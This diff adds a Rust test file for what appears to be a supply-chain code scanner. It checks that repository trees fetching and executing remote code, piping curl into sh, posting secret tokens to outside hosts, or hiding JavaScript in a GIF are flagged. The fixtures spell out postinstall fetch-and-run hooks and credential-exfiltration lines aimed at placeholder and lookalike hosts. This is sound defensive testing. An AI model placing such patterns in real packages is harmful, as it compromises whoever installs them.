@@ -1,0 +1,108 @@
+//! Where a judgement could fail open: each tree is one way to come out better than it is. Hosts end in `.invalid`, but for
+//! those whose names are the point; nothing is run.
+#![allow(clippy::unwrap_used, missing_docs, reason = "a test that meets the unexpected has failed")]
+
+use screen::finding::Severity;
+use screen::{File, Outcome, Tree, Verdict};
+
+fn screened(files: &[(&str, &[u8])]) -> Outcome {
+    let file =
+        |(path, bytes): &(&str, &[u8])| File { path: (*path).to_owned(), bytes: bytes.to_vec() };
+    let mut tree = Tree { files: files.iter().map(file).collect(), ..Tree::default() };
+    tree.files.sort_by(|a, b| a.path.cmp(&b.path));
+    screen::screen(&tree)
+}
+
+const REPOSITORY: &str =
+    r#"{"name": "bot", "repository": "acme/bot", "scripts": {"postinstall": "node get.js"}}"#;
+
+fn fetched_and_run(url: &str) -> Vec<u8> {
+    format!(
+        "const fs = require('fs');\nconst {{ execFileSync }} = require('child_process');\nfetch('{url}')\n  .then((r) => r.arrayBuffer())\n  .then((b) => {{ fs.writeFileSync('/tmp/bot-engine', Buffer.from(b)); execFileSync('/tmp/bot-engine'); }});\n"
+    )
+    .into_bytes()
+}
+
+#[test]
+fn a_release_is_milder_only_if_it_is_the_projects_own_and_a_file() {
+    let of = |url: &str| {
+        let script = fetched_and_run(url);
+        screened(&[("package.json", REPOSITORY.as_bytes()), ("get.js", &script)]).verdict
+    };
+    assert_eq!(of("https://github.com/acme/bot/releases/download/v1/engine"), Verdict::Review);
+    assert_eq!(of("https://github.com/other/bot/releases/download/v1/engine"), Verdict::Block);
+    assert_eq!(
+        of("https://github.com.evil.invalid/acme/bot/releases/download/v1/engine"),
+        Verdict::Block
+    );
+    let piped = r#"{"name": "bot", "repository": "acme/bot", "scripts": {"postinstall": "curl -L https://github.com/acme/bot/releases/download/v1/i.sh | sh"}}"#;
+    assert_eq!(screened(&[("package.json", piped.as_bytes())]).verdict, Verdict::Block);
+}
+
+#[test]
+fn this_machine_is_no_free_pass_and_is_told_by_its_host() {
+    let of = |url: &str| {
+        let code = format!("import requests\nexec(requests.get('{url}').text)\n");
+        screened(&[("main.py", code.as_bytes())]).verdict
+    };
+    assert_eq!(of("http://localhost:8080/x"), Verdict::Review);
+    assert_eq!(of("http://localhost@a.invalid/x"), Verdict::Block);
+    assert_eq!(of("http://localhost.a.invalid/x"), Verdict::Block);
+}
+
+#[test]
+fn a_token_goes_unremarked_only_to_the_service_that_gave_it() {
+    let of = |name: &str, url: &str| {
+        let code =
+            format!("import os, requests\nrequests.post('{url}', data=os.environ['{name}'])\n");
+        screened(&[("main.py", code.as_bytes())]).verdict
+    };
+    assert_eq!(of("GITHUB_TOKEN", "https://api.github.com/user"), Verdict::NoFindings);
+    assert_eq!(of("AWS_SECRET_ACCESS_KEY", "https://api.github.com/gists"), Verdict::Review);
+    assert_eq!(of("GITHUB_TOKEN", "https://a.invalid/in"), Verdict::Review);
+}
+
+#[test]
+fn a_way_that_is_too_long_to_be_sure_of_is_never_no_findings() {
+    let hops = "import requests\n\ndef a(x): return b(x)\ndef b(x): return c(x)\ndef c(x): return d(x)\ndef d(x): return e(x)\ndef e(x): exec(x)\n\na(requests.get('https://a.invalid/x').text)\n";
+    assert_eq!(screened(&[("main.py", hops.as_bytes())]).verdict, Verdict::Block);
+    let padding: Vec<String> = (0..200).map(|n| format!("vendor/m{n}.py")).collect();
+    let mut files: Vec<(&str, &[u8])> =
+        padding.iter().map(|p| (p.as_str(), &b"x = 1\n"[..])).collect();
+    files.push(("main.py", hops.as_bytes()));
+    let outcome = screened(&files);
+    assert_eq!(outcome.verdict, Verdict::Incomplete);
+    assert!(
+        outcome
+            .missed
+            .iter()
+            .any(|m| m.file == "main.py" && m.reason.contains("too long to be sure"))
+    );
+    assert!(
+        outcome
+            .findings
+            .iter()
+            .any(|f| f.rule.id == "network-to-interpreter" && f.severity == Severity::Low)
+    );
+}
+
+#[test]
+fn what_an_interpreter_is_given_is_code_whatever_it_looks_like() {
+    let manifest =
+        |command: &str| format!(r#"{{"name": "a", "scripts": {{"postinstall": "{command}"}}}}"#);
+    // A picture's first bytes, and bytes of no text in a comment.
+    let mut picture = b"GIF89a/*".to_vec();
+    picture.extend([0_u8, 1, 2, 3, 4, 5, 6, 7].repeat(2_000));
+    picture.extend(b"*/=1;console.log('inert')\n");
+    let node = manifest("node logo.gif");
+    let outcome = screened(&[("package.json", node.as_bytes()), ("logo.gif", &picture)]);
+    assert_eq!(outcome.verdict, Verdict::Block, "{outcome:?}");
+    // Code under names that say something else too.
+    let code = b"import requests\nexec(requests.get('https://a.invalid').text)\n";
+    for name in ["Dockerfile.py", ".env.py", "vendor/.git/run.py"] {
+        assert_eq!(screened(&[(name, code)]).verdict, Verdict::Block, "{name}");
+    }
+    // What can't be read of a command is listed.
+    let broken = manifest("node -e 'const = ;'");
+    assert_eq!(screened(&[("package.json", broken.as_bytes())]).verdict, Verdict::Incomplete);
+}
